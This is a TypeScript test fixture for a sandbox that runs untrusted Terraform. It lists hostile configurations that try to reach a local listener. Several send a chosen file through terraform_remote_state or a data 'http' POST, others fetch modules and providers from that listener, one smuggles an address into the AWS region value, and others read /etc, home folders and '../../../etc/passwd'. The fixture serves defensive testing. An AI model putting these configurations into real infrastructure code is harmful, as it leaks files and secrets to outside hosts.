import { file, main, quote, type HostileAnswer } from '../contract.js';

/** Answers that connect to something. */
export const calling: readonly HostileAnswer[] = [
  {
    name: 'call-remote-state',
    threat: 'terraform_remote_state http sends a file to the listener',
    answer: ({ port, loot }) =>
      main(
        `data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address   = "http://127.0.0.1:${port}/\${try(filebase64(${quote(loot)}), "none")}"\n    retry_max = 0\n  }\n}\noutput "x" {\n  value = data.terraform_remote_state.x.outputs\n}`,
      ),
    ends: 'plan',
    says: /connect|network|refused|unreachable/i,
  },
  {
    name: 'call-remote-state-for-hours',
    threat: 'the same, asking again for hours: it waits instead of working',
    answer: ({ port }) =>
      main(
        `data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address        = "http://127.0.0.1:${port}/"\n    retry_max      = 1000\n    retry_wait_min = 30\n    retry_wait_max = 60\n  }\n}\noutput "x" {\n  value = data.terraform_remote_state.x.outputs\n}`,
      ),
    // Nothing was used up, so by the rule for the wall clock nobody is blamed.
    ends: 'plan',
    fault: 'ours',
    says: /time limit/i,
    cpuShare: 0.03,
  },
  {
    name: 'call-remote-state-local',
    threat: 'terraform_remote_state local and s3 of other states',
    answer: ({ loot }) =>
      main(
        `data "terraform_remote_state" "x" {\n  backend = "local"\n  config = {\n    path = ${quote(loot)}\n  }\n}\noutput "x" {\n  value = data.terraform_remote_state.x.outputs\n}`,
      ),
    ends: 'plan',
  },
  {
    name: 'call-backend-http',
    threat: 'backend "http": a request at init',
    answer: ({ port }) =>
      main(
        `terraform {\n  backend "http" {\n    address = "http://127.0.0.1:${port}/state"\n  }\n}\nresource "terraform_data" "x" {}`,
      ),
    ends: 'passes',
    substituted: [/^backend http/],
  },
  {
    name: 'call-cloud',
    threat: 'cloud block: service discovery at init',
    answer: ({ port }) =>
      main(
        `terraform {\n  cloud {\n    hostname     = "localhost:${port}"\n    organization = "evil"\n    workspaces {\n      name = "x"\n    }\n  }\n}\nresource "terraform_data" "x" {}`,
      ),
    ends: 'passes',
    substituted: [/^cloud /],
  },
  {
    name: 'call-backend-remote',
    threat: 'backend "remote": service discovery at init',
    answer: ({ port }) =>
      main(
        `terraform {\n  backend "remote" {\n    hostname     = "localhost:${port}"\n    organization = "evil"\n    workspaces {\n      name = "x"\n    }\n  }\n}\nresource "terraform_data" "x" {}`,
      ),
    ends: 'passes',
    substituted: [/^backend remote/],
  },
  {
    name: 'call-backend-hidden',
    threat: 'a second backend in another file and in JSON',
    answer: ({ port }) =>
      main('resource "terraform_data" "x" {}') +
      file(
        'zz.tf.json',
        JSON.stringify({ terraform: { backend: { http: { address: `http://127.0.0.1:${port}/` } } } }),
        'json',
      ),
    ends: 'passes',
    substituted: [/^backend http/],
  },
  ...[
    ['git', (port: number) => `git::http://127.0.0.1:${port}/x.git`],
    ['http', (port: number) => `http://127.0.0.1:${port}/x.zip`],
    ['registry', (port: number) => `localhost:${port}/a/b/c`],
    ['s3', (port: number) => `s3::http://127.0.0.1:${port}/bucket/x.zip`],
    ['ssh', (port: number) => `git::ssh://git@127.0.0.1:${port}/x.git`],
  ].map(([kind, source]): HostileAnswer => {
    const name = String(kind);
    return {
      name: `call-module-${name}`,
      threat: `a module fetched by ${name} from the listener`,
      answer: ({ port }) =>
        main(`module "m" {\n  source = ${quote(typeof source === 'function' ? source(port) : '')}\n}`),
      ends: 'init',
      fault: 'ours',
    };
  }),
  {
    name: 'call-module-outside',
    threat: 'modules from folders outside the answer',
    answer: ({ home }) =>
      main(
        `module "etc" {\n  source = "/etc"\n}\nmodule "up" {\n  source = "../"\n}\nmodule "home" {\n  source = ${quote(home)}\n}`,
      ),
    ends: 'init',
  },
  {
    name: 'call-foreign-provider',
    threat: 'providers from a foreign host and with a name that looks like ours',
    answer: ({ port }) =>
      main(
        `terraform {\n  required_providers {\n    aws  = { source = "localhost:${port}/hashicorp/aws" }\n    awss = { source = "hashicorp/awss" }\n  }\n}\nresource "awss_instance" "x" {}`,
      ),
    ends: 'init',
    fault: 'ours',
  },
  {
    name: 'call-http-data',
    threat: 'data "http" to the listener, with a file in the body',
    answer: ({ port, loot }) =>
      main(
        `data "http" "x" {\n  url          = "http://127.0.0.1:${port}/x"\n  method       = "POST"\n  request_body = try(file(${quote(loot)}), "none")\n  retry {\n    attempts     = 1000\n    min_delay_ms = 60000\n  }\n}\noutput "x" {\n  value = data.http.x.response_body\n}\ncheck "c" {\n  data "http" "y" {\n    url = "http://127.0.0.1:${port}/check"\n  }\n  assert {\n    condition     = data.http.y.status_code == 200\n    error_message = "no"\n  }\n}`,
      ),
    ends: 'passes',
    substituted: [/http/],
  },
  {
    name: 'call-tls-certificate',
    threat: 'data "tls_certificate" of a URL',
    answer: ({ port }) =>
      main(
        `data "tls_certificate" "x" {\n  url = "https://127.0.0.1:${port}"\n}\noutput "x" {\n  value = data.tls_certificate.x.certificates[0].sha1_fingerprint\n}`,
      ),
    ends: 'passes',
    substituted: [/tls_certificate/],
  },
  {
    name: 'call-region',
    threat: 'a region that turns the address of AWS into the listener’s',
    answer: ({ port }) =>
      main(
        `provider "aws" {\n  region                 = "x@127.0.0.1:${port}/#"\n  skip_region_validation = true\n}\ndata "aws_ami" "x" {\n  most_recent = true\n  owners      = ["self"]\n}\nresource "aws_s3_bucket" "b" {\n  bucket = "torture-bucket-123456789012"\n}`,
      ),
    ends: 'passes',
  },
  {
    name: 'call-import',
    threat: 'import, moved and removed blocks, which read at plan',
    answer: () =>
      main(
        `import {\n  to = aws_s3_bucket.b\n  id = "../../../etc/passwd"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = "torture-bucket-123456789012"\n}\nmoved {\n  from = aws_s3_bucket.old\n  to   = aws_s3_bucket.b\n}\nremoved {\n  from = aws_s3_bucket.gone\n  lifecycle {\n    destroy = false\n  }\n}`,
      ),
    ends: 'passes',
  },
];
